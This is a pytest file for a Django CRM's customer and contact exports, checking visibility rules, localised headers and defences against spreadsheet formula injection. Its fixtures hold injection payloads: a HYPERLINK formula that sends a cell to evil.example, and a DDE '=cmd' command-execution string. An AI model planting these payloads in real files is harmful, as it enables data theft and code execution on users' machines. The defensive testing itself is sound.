"""Exports of customers and contacts (issue 3, rules 2 and 9).

Every export starts from ``visible_to(user)``: an outsider gets 404 for a customer and a list
with nothing in it. No cell is ever a formula; CSV is UTF-8 with BOM and escapes formula-looking
cells; headers are in the user's language; amounts are numbers and dates are dates.
"""

import csv
import io
from datetime import date
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from keyaccount.contacts.models import Contact
from keyaccount.core import excel
from keyaccount.customers import services
from keyaccount.customers.models import Customer
from keyaccount.org.models import Region
from keyaccount.transfer import importing

from .test_import import code, register

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def book(cast):
    """kam's customers (one named like a formula), a colleague's, a north-team one."""
    jiangsu = Region.objects.get(code="CN-JS")
    mine = register(
        cast.kam, HOSTILE, approve_by=cast.assistant, credit_code=code(1), region=jiangsu,
        revenue=Decimal("125000000.50"), employees=1200, notes="=1+1",
    )  # fmt: skip
    plain = register(
        cast.kam, "华瑞银行股份有限公司", approve_by=cast.assistant, credit_code=code(2)
    )
    colleague = register(cast.colleague, "同事的客户有限公司", approve_by=cast.assistant)
    north = register(cast.north_kam, "北方客户有限公司", approve_by=cast.assistant)
    boss = Contact.objects.create(
        customer=mine, name="张总", title="=SUM(A1:A9)", mobile="13900000001"
    )
    Contact.objects.create(customer=mine, name="+李明", reports_to=boss, email="li@example.cn")
    Contact.objects.create(customer=north, name="北方联系人")
    services.evaluation_create(
        actor=cast.kam, customer=mine,
        data={"evaluated_on": date(2025, 3, 5), "relationship": 3, "needs_clarity": 4,
              "competitive_position": 2, "solution_fit": 5, "payment_ability": 4,
              "summary": "=cmd|' /C calc'!A0", "next_steps": "@SUM(1)"},
    )  # fmt: skip
    return {"mine": mine, "plain": plain, "colleague": colleague, "north": north}


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return load_workbook(io.BytesIO(response.content))


def no_formulas(workbook) -> list:
    """Every cell of every sheet, after asserting none of them is a formula."""
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell)
    return cells


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


# --- the KA list ----------------------------------------------------------------------------


def test_list_export_contains_only_visible_customers_and_no_formulas(cast, client_for, book):
    workbook = workbook_of(client_for(cast.kam).get(reverse("customers_io:export_list")))
    cells = no_formulas(workbook)
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["客户名称", "简称", "统一社会信用代码"]  # the user's language (zh)
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted([HOSTILE, "华瑞银行股份有限公司"])
    hostile = next(c for c in cells if c.value == HOSTILE)
    assert hostile.data_type == "s"
    notes = next(c for c in cells if c.value == "=1+1")
    assert notes.data_type == "s"
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == HOSTILE)
    by_header = dict(zip(header, row, strict=True))
    assert by_header["区域"].value == "CN-JS 江苏"
    revenue = by_header["年营业收入（元）"]
    assert revenue.data_type == "n"
    assert Decimal(str(revenue.value)) == Decimal("125000000.50")
    assert revenue.number_format == "#,##0.00"
    assert by_header["员工人数"].value == 1200
    updated = row[-1]
    assert updated.is_date
    assert updated.value.date() == timezone.localdate()


def test_list_export_for_others(cast, client_for, book):
    def names(role):
        workbook = workbook_of(
            client_for(getattr(cast, role)).get(reverse("customers_io:export_list"))
        )
        return {r[0].value for r in workbook.worksheets[0].iter_rows(min_row=2)}

    assert names("outsider") == set()  # a header and nothing else
    assert names("colleague") == {"同事的客户有限公司"}
    assert names("north_kam") == {"北方客户有限公司"}
    assert names("team_lead") == {HOSTILE, "华瑞银行股份有限公司", "同事的客户有限公司"}
    assert len(names("head")) == len(names("assistant")) == len(names("admin")) == 4
    assert names("consultant") == set()


def test_list_export_applies_the_list_filters_leniently(cast, client_for, book):
    Customer.objects.filter(pk=book["plain"].pk).update(grade="A")
    client = client_for(cast.head)
    url = reverse("customers_io:export_list")

    def names(query):
        workbook = workbook_of(client.get(url + query))
        return {r[0].value for r in workbook.worksheets[0].iter_rows(min_row=2)}

    assert names("?grade=A") == {"华瑞银行股份有限公司"}
    assert names("?grade=a,none&grade=Z") == {c.name for c in book.values()}
    region = Region.objects.get(code="CN-E").pk  # East China includes Jiangsu
    assert names(f"?region={region}") == {HOSTILE}
    assert names(f"?owner={cast.north_kam.pk}") == {"北方客户有限公司"}
    assert names("?q=华瑞") == {"华瑞银行股份有限公司"}
    # bad values are ignored, never a 500
    assert len(names("?region=abc&owner=-1&score_min=x&score_max=1e999&sort=evil&status=zzz")) == 4


def test_list_export_as_csv(cast, client_for, book):
    response = client_for(cast.kam).get(reverse("customers_io:export_list") + "?format=csv")
    rows = csv_rows(response)
    assert rows[0][:2] == ["客户名称", "简称"]
    assert rows[0][-6:] == ["负责人", "团队", "备案状态", "得分", "建议等级", "更新时间"]
    names = [r[0] for r in rows[1:]]
    assert "'" + HOSTILE in names  # escaped: a spreadsheet will not run it
    row = next(r for r in rows if r[0].startswith("'="))
    assert "'=1+1" in row
    assert "125000000.50" in row
    assert timezone.localdate().isoformat() in row
    assert response["Content-Disposition"].endswith(".csv")


def test_file_names_are_dated_and_rfc5987(cast, client_for, book):
    today = timezone.localdate().isoformat()
    response = client_for(cast.kam).get(reverse("customers_io:export_list"))
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert f"filename*=UTF-8''{quote(f'大客户名单-{today}.xlsx')}" in disposition
    assert disposition.split('"')[1].isascii()
    with translation.override("en"):
        assert excel.file_name("KA list", extension="xlsx") == f"KA list-{today}.xlsx"
        header = excel.content_disposition(f"KA list-{today}.xlsx")
        assert header == (
            f'attachment; filename="KA_list-{today}.xlsx"; '
            f"filename*=UTF-8''KA%20list-{today}.xlsx"
        )
    assert excel.file_name("客户档案表", 'a/b:"c"', extension="xlsx") == (
        f"客户档案表-a_b_c_-{today}.xlsx"
    )


def test_english_users_get_english_headers(cast, client_for, book):
    cast.kam.language = "en"
    cast.kam.save()
    response = client_for(cast.kam).get(reverse("customers_io:export_list"))
    workbook = workbook_of(response)
    assert [c.value for c in workbook.worksheets[0][1]][:2] == ["Customer name", "Short name"]
    assert "KA%20list-" in response["Content-Disposition"]


def test_list_export_takes_a_bounded_number_of_queries(cast, client_for, book):
    client = client_for(cast.head)
    url = reverse("customers_io:export_list")

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured.captured_queries)

    before = queries()
    for i in range(15):
        register(cast.kam, f"批量客户{i}有限公司", approve_by=cast.assistant)
    assert queries() == before


def test_exported_list_imports_back_unchanged(cast, client_for, book):
    """The export's headers are the import's: re-importing an export changes nothing."""
    response = client_for(cast.kam).get(reverse("customers_io:export_list"))
    with translation.override("en"):
        plan = importing.preview(user=cast.kam, file_name="x.xlsx", data=response.content)
    assert [r.action for r in plan.rows] == ["unchanged", "unchanged"]
    assert not any(p.level == "error" for p in plan.problems)


# --- contacts -------------------------------------------------------------------------------


def test_contacts_export(cast, client_for, book):
    url = reverse("customers_io:export_contacts")
    workbook = workbook_of(client_for(cast.kam).get(url))
    no_formulas(workbook)
    rows = [[c.value for c in r] for r in workbook.worksheets[0].iter_rows(min_row=2)]
    assert sorted(r[2] for r in rows) == ["+李明", "张总"]
    li = next(r for r in rows if r[2] == "+李明")
    assert li[:2] == [HOSTILE, code(1)]
    assert li[9] == "张总"  # reports to
    rows = csv_rows(client_for(cast.kam).get(url + "?format=csv"))
    assert rows[0][:3] == ["客户", "客户统一社会信用代码", "联系人姓名"]
    assert {r[2] for r in rows[1:]} == {"'+李明", "张总"}
    assert "'=SUM(A1:A9)" in [r[3] for r in rows[1:]]
    assert len(csv_rows(client_for(cast.outsider).get(url + "?format=csv"))) == 1
    north = csv_rows(client_for(cast.head).get(url + f"?format=csv&owner={cast.north_kam.pk}"))
    assert [r[2] for r in north[1:]] == ["北方联系人"]


# --- one customer: profile form, print page, evaluations ------------------------------------


@pytest.mark.parametrize(
    "name", ["customers_io:export_profile", "customers_io:print_profile",
             "customers_io:export_evaluations"],
)  # fmt: skip
def test_a_customer_outside_visibility_is_404(cast, client_for, book, name):
    url = reverse(name, args=[book["mine"].pk])
    for role in ("outsider", "colleague", "north_kam", "consultant"):
        assert client_for(getattr(cast, role)).get(url).status_code == 404, role
    for role in ("kam", "team_lead", "head", "director", "assistant", "admin"):
        assert client_for(getattr(cast, role)).get(url).status_code == 200, role
    assert client_for(cast.kam).get(reverse(name, args=[999_999])).status_code == 404
    assert client_for(None).get(url).status_code == 302


def test_profile_form_workbook(cast, client_for, book):
    response = client_for(cast.kam).get(
        reverse("customers_io:export_profile", args=[book["mine"].pk])
    )
    workbook = workbook_of(response)
    cells = no_formulas(workbook)
    form, contacts = workbook.worksheets
    assert form.title == "客户档案表"
    assert form["B1"].value == HOSTILE
    assert form["B1"].data_type == "s"
    values = {
        form.cell(row=r, column=1).value: form.cell(row=r, column=2)
        for r in range(2, form.max_row + 1)
    }
    assert values["统一社会信用代码"].value == code(1)
    assert values["年营业收入（元）"].number_format == "#,##0.00"
    assert Decimal(str(values["年营业收入（元）"].value)) == Decimal("125000000.50")
    assert values["备注"].value == "=1+1"
    assert values["备注"].data_type == "s"
    for section in ("基本信息", "规模", "需求", "大客户特征"):
        assert section in values
    assert sorted(r[2].value for r in contacts.iter_rows(min_row=2)) == ["+李明", "张总"]
    assert any(c.value == "=SUM(A1:A9)" and c.data_type == "s" for c in cells)
    assert quote("客户档案表-") in response["Content-Disposition"]


def test_evaluations_workbook(cast, client_for, book):
    response = client_for(cast.kam).get(
        reverse("customers_io:export_evaluations", args=[book["mine"].pk])
    )
    workbook = workbook_of(response)
    no_formulas(workbook)
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[2] == "评估日期"
    (row,) = list(sheet.iter_rows(min_row=2))
    by_header = dict(zip(header, row, strict=True))
    assert by_header["评估日期"].is_date
    assert by_header["评估日期"].value.date() == date(2025, 3, 5)
    assert by_header["总结"].value == "=cmd|' /C calc'!A0"
    assert by_header["总分"].value == 18
    assert quote("客户综合评估表-") in response["Content-Disposition"]
    # and it imports back as "unchanged"
    with translation.override("en"):
        plan = importing.preview(user=cast.kam, file_name="e.xlsx", data=response.content)
    assert [r.action for r in plan.rows] == ["unchanged"]


def test_print_page(cast, client_for, book):
    response = client_for(cast.kam).get(
        reverse("customers_io:print_profile", args=[book["mine"].pk])
    )
    content = response.content.decode()
    assert "keyaccount/print.css" in content
    assert "客户档案表" in content
    assert (
        "&quot;http://evil.example" in content or "&#x27;" in content or "evil.example" in content
    )
    assert "<script>" not in content.replace(" ", "")  # only the nonce'd script
    assert 'nonce="' in content
    for text in ("基本信息", "张总", "13900000001", "125,000,000.50"):
        assert text in content
    with translation.override("en"):
        cast.kam.language = "en"
        cast.kam.save()
        english = (
            client_for(cast.kam)
            .get(reverse("customers_io:print_profile", args=[book["mine"].pk]))
            .content.decode()
        )
    assert "Customer profile form" in english
    assert "Identity" in english


def test_print_css_hides_navigation_on_paper():
    from pathlib import Path

    import keyaccount

    css = (Path(keyaccount.__file__).parent / "static/keyaccount/print.css").read_text()
    assert "@page { size: A4" in css
    media = css[css.index("@media print") :]
    for selector in (".page > header", ".navbar", ".footer", ".ka-no-print"):
        assert selector in media


def test_clean_removes_what_excel_cannot_hold():
    assert excel.clean("a\x07b\x1bc") == "abc"
    assert len(excel.clean("x" * 40_000)) == excel.MAX_CELL
